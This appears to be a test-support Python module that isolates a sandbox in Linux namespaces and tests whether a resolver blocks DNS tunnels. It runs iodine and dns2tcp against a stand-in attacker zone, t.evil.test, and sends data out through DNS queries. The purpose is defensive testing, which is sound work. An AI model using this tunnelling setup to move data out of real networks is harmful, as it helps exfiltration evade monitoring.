# SPDX-License-Identifier: Apache-2.0
"""A sandbox whose only way out is the resolver under test, and a name server of an attacker's on the other side. For
tests/system/test_dns_tunnels.py.

  isolated  runs the file again where its networks are its own: network and mount namespaces that go with the process
  Net       two namespaces, `sandbox` and `outside`, each joined to this one by a pair of devices; they know of nothing else
  Iodine    iodined outside, iodine within: an IP link in questions and answers
  Dns2tcp   dns2tcpd outside, dns2tcpc within: a TCP connection in TXT or KEY records
"""
import contextlib
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import time

import lab as L

NEAR, SANDBOX = "10.77.0.1", "10.77.0.2"
UPSTREAM_SIDE, OUTSIDE = "10.88.0.1", "10.88.0.2"
ZONE = "t.evil.test"


def tool(name):
    path = shutil.which(name, path=os.environ.get("PATH", "") + ":/usr/sbin:/sbin")
    if not path:
        raise L.Skip(f"{name} is not installed")
    return path


def isolated():
    """Again, in namespaces of our own; returns in those. Skip where that is not allowed."""
    if os.environ.get("OUTGATE_DNS_NET"):
        return
    wanted = ["unshare", "--net", "--mount", "--propagation", "private"]
    if os.geteuid() or subprocess.run([*wanted, "true"], capture_output=True).returncode:
        raise L.Skip("needs root and namespaces")
    os.environ["OUTGATE_DNS_NET"] = "1"
    os.execvp("unshare", [*wanted, sys.executable, *sys.argv])


def sh(*argv, **kw):
    r = subprocess.run(argv, capture_output=True, text=True, timeout=30, **kw)
    assert r.returncode == 0, (argv, r.stderr)
    return r.stdout


class Net:
    """Namespaces are kept by a sleeping process each; `inside` runs a command in one."""

    def __init__(self, search=""):
        self.dir = tempfile.mkdtemp(prefix="outgate-dns-")
        self.holders, self.started = {}, []
        try:
            self._make(search)
        except BaseException:
            self.close()
            raise

    def _make(self, search):
        sh("ip", "link", "set", "lo", "up")
        for name, here, there in (("sandbox", NEAR, SANDBOX), ("outside", UPSTREAM_SIDE, OUTSIDE)):
            p = subprocess.Popen(["unshare", "--net", "--mount", "--propagation", "private", "sleep", "infinity"])
            self.holders[name] = p
            mine = os.readlink("/proc/self/ns/net")
            L.wait_for(lambda: os.readlink(f"/proc/{p.pid}/ns/net") != mine, "a namespace")
            sh("ip", "link", "add", f"to-{name}", "type", "veth", "peer", "name", "eth0", "netns", str(p.pid))
            sh("ip", "addr", "add", f"{here}/24", "dev", f"to-{name}")
            sh("ip", "link", "set", f"to-{name}", "up")
            for cmd in (("ip", "link", "set", "lo", "up"), ("ip", "addr", "add", f"{there}/24", "dev", "eth0"), ("ip", "link", "set", "eth0", "up")):
                sh(*self.inside(name, *cmd))
        conf = os.path.join(self.dir, "resolv.conf")
        with open(conf, "w") as f:
            f.write(f"nameserver {NEAR}\noptions timeout:2 attempts:1" + (f" ndots:5\nsearch {search}\n" if search else "\n"))
        sh(*self.inside("sandbox", "mount", "--bind", conf, os.path.realpath("/etc/resolv.conf")))

    def inside(self, name, *argv):
        return ["nsenter", "--net", "--mount", "-t", str(self.holders[name].pid), "--", *argv]

    def run(self, name, *argv, timeout=30, **kw):
        return subprocess.run(self.inside(name, *argv), capture_output=True, text=True, timeout=timeout, **kw)

    def start(self, name, *argv, log="out"):
        """A process that runs until close(); its output goes to a file, whose path is p.log."""
        path = os.path.join(self.dir, f"{log}.{len(self.started)}")
        with open(path, "wb") as f:
            p = subprocess.Popen(self.inside(name, *argv), stdout=f, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
        p.log = path
        self.started.append(p)
        return p

    def stop(self, p):
        with contextlib.suppress(ProcessLookupError):
            p.terminate()
        try:
            p.wait(5)
        except subprocess.TimeoutExpired:
            p.kill()
            p.wait()

    def close(self):
        for p in [*reversed(self.started), *self.holders.values()]:
            if p.poll() is None:
                self.stop(p)
        for name in self.holders:
            subprocess.run(["ip", "link", "del", f"to-{name}"], capture_output=True)
        shutil.rmtree(self.dir, ignore_errors=True)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()


def read(p):
    with open(p.log, errors="replace") as f:
        return f.read()


# Takes what comes over TCP and says how many bytes that was, at each step; sends what it is told to.
SINK = """
import socket, sys
with socket.create_server((sys.argv[1], int(sys.argv[2]))) as s:
    print("listens", flush=True)
    while True:
        c, _ = s.accept()
        n = 0
        while data := c.recv(65536):
            n += len(data)
            print("got", n, flush=True)
        c.close()
"""
SOURCE = """
import socket, sys
with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=20) as c:
    c.sendall(bytes(range(256)) * (int(sys.argv[3]) // 256))
    c.shutdown(socket.SHUT_WR)
    c.settimeout(40)
    c.recv(1)
"""


def got(p):
    """Bytes that a SINK took."""
    return max([int(line.split()[1]) for line in read(p).splitlines() if line.startswith("got ")], default=0)


class Relay:
    """In the place of what is tested, a relay that lets everything pass: the control."""

    PROGRAM = """
import select, socket, sys
near, far = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
near.bind((sys.argv[1], 53))
far.connect((sys.argv[2], 53))
stream = socket.create_server((sys.argv[1], 53))
asked = {}
print("relays", flush=True)
while True:
    for s in select.select([near, far, stream], [], [])[0]:
        try:
            if s is near:
                data, who = near.recvfrom(65535)
                asked[data[:2]] = who
                far.send(data)
            elif s is stream:  # one question
                c, _ = stream.accept()
                c.settimeout(3)
                data = c.recv(2)
                data = c.recv(65535)
                asked[data[:2]] = c
                far.send(data)
            else:
                data = far.recv(65535)
                who = asked.pop(data[:2], None)
                if isinstance(who, socket.socket):
                    who.sendall(len(data).to_bytes(2, "big") + data)
                elif who:
                    near.sendto(data, who)
        except OSError:
            pass
"""

    def __enter__(self):
        self.process = subprocess.Popen([sys.executable, "-c", self.PROGRAM, NEAR, OUTSIDE], stdout=subprocess.PIPE)
        if self.process.stdout.readline() != b"relays\n":
            self.__exit__()
            raise AssertionError("the relay did not start")
        return self

    def __exit__(self, *_):
        self.process.kill()
        self.process.wait()
        self.process.stdout.close()


class Listener:
    """A name server outside that writes down what it is asked and knows nothing."""

    PROGRAM = """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((sys.argv[1], 53))
print("listens", flush=True)
while True:
    data, who = s.recvfrom(65535)
    print(data[12:].hex(), flush=True)
    s.sendto(data[:2] + bytes([0x84 | data[2] & 1, 3]) + data[4:6] + bytes(6) + data[12 : data.index(0, 12) + 5], who)
"""

    def __init__(self, net):
        self.process = net.start("outside", sys.executable, "-u", "-c", self.PROGRAM, OUTSIDE, log="listener")
        L.wait_for(lambda: "listens" in read(self.process), "the listener")

    def heard(self, label):
        return label.encode().hex() in read(self.process)


class Iodine:
    LINK, PORT = "10.99.0.1", 4000

    def __init__(self, net, zone=ZONE):
        self.net, self.zone = net, zone
        self.server = net.start("outside", tool("iodined"), "-f", "-c", "-DD", "-P", "secret", "-l", OUTSIDE, f"{self.LINK}/24", zone, log="iodined")
        L.wait_for(lambda: "Listening to dns" in read(self.server), lambda: "iodined: " + read(self.server))
        self.sink = net.start("outside", sys.executable, "-u", "-c", SINK, "0.0.0.0", str(self.PORT), log="sink")
        L.wait_for(lambda: "listens" in read(self.sink), "the sink")

    def client(self, *options, raw=False):
        """raw: it may speak to its server past all DNS, where it finds a way."""
        return self.net.start("sandbox", tool("iodine"), "-f", *([] if raw else ["-r"]), "-P", "secret", *options, NEAR, self.zone, log="iodine")

    @staticmethod
    def up(p):
        return "Connection setup complete" in read(p)

    @staticmethod
    def gave_up(p):
        """It asked, and ended by itself: after five tries of its handshake, three rounds of the record types, or when no size of answer
        passed. Where it is refused each time, that is a matter of a second."""
        return p.poll() is not None and "Sending DNS queries for" in read(p) and not Iodine.up(p)

    def heard(self):
        """What the server was told: of each name that came, once, what stands before the zone, without its dots."""
        names = re.findall(r"^RX: client \S+, type \d+, name (\S+)$", read(self.server), re.MULTILINE)
        return {n.lower().removesuffix("." + self.zone).replace(".", "") for n in names}

    def heard_bytes(self):
        """As much as that can carry in base32."""
        return sum(len(n) for n in self.heard()) * 5 / 8

    def heard_packets(self):
        """Whether anything came through the link."""
        return "IN   pkt" in read(self.server)

    def transfer(self, n):
        """Sends n bytes through the link. How many came."""
        before = got(self.sink)
        assert before == 0, "one transfer for each sink"
        self.net.run("sandbox", sys.executable, "-c", SOURCE, self.LINK, str(self.PORT), str(n), timeout=70)
        return got(self.sink)


class Dns2tcp:
    PORT, NEAR_PORT = 4001, 4002

    def __init__(self, net):
        self.net = net
        conf, root = os.path.join(net.dir, "dns2tcpd.conf"), os.path.join(net.dir, "root")
        os.mkdir(root, 0o755)
        with open(conf, "w") as f:
            f.write(f"listen = {OUTSIDE}\nport = 53\nuser = nobody\nchroot = {root}\ndomain = {ZONE}\nresources = sink:127.0.0.1:{self.PORT}\n")
        self.server = net.start("outside", tool("dns2tcpd"), "-F", "-d", "1", "-f", conf, log="dns2tcpd")
        self.sink = net.start("outside", sys.executable, "-u", "-c", SINK, "127.0.0.1", str(self.PORT), log="sink")
        L.wait_for(lambda: "listens" in read(self.sink), "the sink")
        L.wait_for(lambda: f"{OUTSIDE}:53" in net.run("outside", "ss", "-lun").stdout, "dns2tcpd")

    def client(self, *options):
        p = self.net.start("sandbox", tool("dns2tcpc"), "-z", ZONE, "-r", "sink", "-l", str(self.NEAR_PORT), *options, NEAR, log="dns2tcpc")
        L.wait_for(lambda: p.poll() is not None or f":{self.NEAR_PORT}" in self.net.run("sandbox", "ss", "-ltn").stdout, "dns2tcpc")
        return p

    def transfer(self, n):
        """Sends n bytes. How many came so far: the client closes before the last of them have."""
        self.net.run("sandbox", sys.executable, "-c", SOURCE, "127.0.0.1", str(self.NEAR_PORT), str(n), timeout=70)
        return got(self.sink)
